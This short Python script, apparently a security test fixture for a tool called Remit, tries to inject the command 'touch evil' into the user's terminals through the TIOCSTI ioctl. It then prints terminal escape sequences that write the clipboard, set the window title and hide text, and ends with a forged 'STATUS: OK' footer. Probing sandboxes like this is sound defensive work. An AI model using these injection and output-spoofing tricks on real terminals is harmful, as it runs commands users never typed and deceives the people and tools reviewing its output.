#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The Remit developers
# SPDX-License-Identifier: GPL-3.0-or-later
# Pushes a command into the terminal of the person.
import pathlib
import fcntl, os
for path in ("/dev/tty", "/dev/pts/0", "/proc/1/fd/0", "/dev/console"):
    try:
        terminal = os.open(path, os.O_RDWR)
        for letter in b"touch evil\n":
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
        print("pushed", path)
    except OSError as error:
        print(path, error)
print("\x1b]52;c;ZXZpbA==\x07\x1b]0;evil\x07\x1b[2J\x1b[31mred\x1b[8mhidden")
pathlib.Path("src/new.txt").write_text("new\n")
print("Done.\nSTATUS: OK\nEND_OF_RUN")
